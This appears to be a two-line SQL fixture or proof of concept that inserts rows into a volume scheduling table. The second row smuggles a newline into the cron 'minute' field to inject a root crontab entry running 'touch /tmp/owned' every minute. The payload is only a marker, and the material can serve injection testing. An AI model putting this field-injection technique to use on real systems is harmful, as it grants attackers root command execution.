INSERT INTO volume_schedule (job_id,volume_id,enabled,action,minute,hour,dayofmonth,month,dayofweek) VALUES(8,'data',1,1,'0','3','*','*','*');
INSERT INTO volume_schedule (job_id,volume_id,enabled,action,minute,hour,dayofmonth,month,dayofweek) VALUES(3,'data',1,1,'0'||char(10)||'* * * * * root touch /tmp/owned #','3','*','*','*');
